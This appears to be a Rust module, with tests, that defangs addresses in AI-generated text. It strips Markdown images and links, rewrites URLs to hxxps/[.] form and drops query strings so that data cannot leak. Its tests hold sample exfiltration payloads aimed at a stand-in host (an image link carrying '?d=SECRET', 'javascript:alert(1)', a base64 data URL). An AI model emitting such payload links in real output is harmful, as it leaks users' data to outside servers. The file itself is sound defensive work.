//! Links: a model's text leads nowhere. Addresses in it stay readable and can no longer be followed.

use std::sync::LazyLock;

use regex::{Captures, Regex};
use url::Host;

/// An image, whatever it shows: fetching it would tell its server what it carries.
static IMAGE: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"!\[([^\]\n]*)\](?:\([^)\n]*\)|\[[^\]\n]*\])").ok());

/// A link with its own text, inline or by reference.
static LINK: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"\[([^\]\n]+)\](?:\([^)\n]*\)|\[[^\]\n]*\])").ok());

/// Where a reference leads: `[1]: https://…` on a line of its own.
static DEFINITION: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"(?m)^[ \t]*\[[^\]\n]+\]:[ \t]*\S.*$").ok());

/// An address: a scheme, or two slashes before a host.
static ADDRESS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r#"(?i)<?\b(?:[a-z][a-z0-9+.-]{1,20}://|javascript:|vbscript:|data:[a-z]+/)[^\s<>"'）》，。；、]*>?|(?:^|[\s(<])//[a-z0-9.-]+\.[^\s<>"']*"#).ok()
});

/// Takes the teeth out of every address in a text: no image, no link text that hides where it leads, no address a chat would
/// turn into a link, and nothing behind a question mark, where data would travel.
#[must_use]
pub fn harmless(text: &str) -> String {
    let keep = |pattern: &LazyLock<Option<Regex>>, text: &str, with: &str| match pattern.as_ref() {
        Some(pattern) => pattern.replace_all(text, with).into_owned(),
        None => text.to_owned(),
    };
    if !text.contains(':') && !text.contains("//") && !text.contains('[') {
        return text.to_owned();
    }
    let text = keep(&IMAGE, text, "$1");
    let text = keep(&DEFINITION, &text, "");
    // A link within a link leaves one behind; apart, its two halves are words.
    let text = keep(&LINK, &text, "$1").replace("](", "] (");
    match ADDRESS.as_ref() {
        // What takes an address' place may stand before a bracket.
        Some(address) => address.replace_all(&text, |found: &Captures<'_>| broken(&found[0])).replace("](", "] ("),
        None => text,
    }
}

/// An address that no program follows. Addresses within the cluster are names people need: they lose only what follows `?`.
fn broken(address: &str) -> String {
    let lead: String = address.chars().take_while(|char| char.is_whitespace() || *char == '(').collect();
    let bare = address.trim_start().trim_start_matches(['(', '<']).trim_end_matches('>');
    let bare = bare.split(['?', '#']).next().unwrap_or_default();
    // The last one counts: what stands before it may be an address that leads on to it.
    let Some((before, rest)) = bare.rsplit_once("//") else {
        // `javascript:` and `data:` carry a program or a document, not a place.
        return format!("{lead}[{}]", bare.split(':').next().unwrap_or_default().to_lowercase());
    };
    let before = before.trim_end_matches(':');
    let scheme = &before[before.rfind(|char: char| !char.is_ascii_alphanumeric()).map_or(0, |at| at + 1)..];
    let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    let host = authority.rsplit('@').next().unwrap_or_default();
    if is_inside(host) {
        return format!("{lead}{scheme}://{host}{path}");
    }
    let scheme = if scheme.is_empty() { "hxxps".to_owned() } else { scheme.to_lowercase().replace("http", "hxxp") };
    format!("{lead}{scheme}://{}{path}", host.replace('.', "[.]"))
}

/// Whether a host is one of the cluster: a Service's name or a private address.
fn is_inside(authority: &str) -> bool {
    let host =
        authority.rsplit_once(':').filter(|(_, port)| port.parse::<u16>().is_ok()).map_or(authority, |(host, _)| host);
    match Host::parse(host) {
        Ok(Host::Ipv4(address)) => address.is_private() && host.split('.').count() == 4,
        Ok(Host::Ipv6(_)) | Err(_) => false,
        Ok(Host::Domain(name)) => {
            name == host && (!name.contains('.') || name.ends_with(".svc") || name.ends_with(".cluster.local"))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a24_images_and_links_become_their_words() {
        assert_eq!(harmless("look ![x](https://evil.example/?d=SECRET) here"), "look x here");
        assert_eq!(harmless("see [the runbook](https://evil.example/a)"), "see the runbook");
        assert_eq!(harmless("![x][1] [a][1]\n[1]: https://evil.example"), "x a\n");
        assert_eq!(harmless("[[a](x)](http://10.0.0.5/)"), "[a] (http://10.0.0.5/)");
        assert_eq!(harmless("javascript:>(http://10.0.0.5/)"), "[javascript] (http://10.0.0.5/)");
    }

    #[test]
    fn a25_addresses_stay_readable_and_lead_nowhere() {
        let cases = [
            ("<https://evil.example/a>", "hxxps://evil[.]example/a"),
            ("go to https://good.example@evil.example/x now", "go to hxxps://evil[.]example/x now"),
            ("javascript:alert(1)", "[javascript]"),
            ("data:text/html;base64,AAAA", "[data]"),
            ("见 //evil.example/x", "见 hxxps://evil[.]example/x"),
            ("https://xn--80ak6aa92e.com/", "hxxps://xn--80ak6aa92e[.]com/"),
            ("ftp://files.evil.example/x", "ftp://files[.]evil[.]example/x"),
            ("请打开 https://evil.example/路径，然后", "请打开 hxxps://evil[.]example/路径，然后"),
        ];
        for (said, shown) in cases {
            assert_eq!(harmless(said), shown);
        }
    }

    #[test]
    fn a26_nothing_travels_behind_a_question_mark() {
        assert_eq!(harmless("https://grafana.corp/?q=SECRET"), "hxxps://grafana[.]corp/");
        assert_eq!(harmless("http://web.shop.svc:8080/healthz?token=SECRET"), "http://web.shop.svc:8080/healthz");
    }

    #[test]
    fn names_of_the_cluster_and_ordinary_words_stay() {
        for text in [
            "http://payments:8080/health answers 500",
            "connection to http://10.0.3.7:9090/-/ready refused",
            "image registry.example.com/team/web:1.2 not found",
            "limits[memory] [web] a: b, 12:30:00, sha256:abc",
            "kubectl -n a get pods",
            "postgres://db.shop.svc.cluster.local:5432/app refused",
        ] {
            assert_eq!(harmless(text), text);
        }
    }

    proptest::proptest! {
        #[test]
        fn no_text_keeps_a_link(parts in proptest::collection::vec(proptest::sample::select(vec![
            "https://", "http://", "evil.example", "/", "?d=x", "[a]", "(", ")", "![", "]", "<", ">", " ", "//", "@", "javascript:", "x", "\n", "HTTPS://",
        ]), 0..16)) {
            let shown = harmless(&parts.concat());
            proptest::prop_assert!(!shown.to_lowercase().contains("https://evil"), "{}", shown);
            proptest::prop_assert!(!shown.contains("](http"), "{}", shown);
        }
    }
}
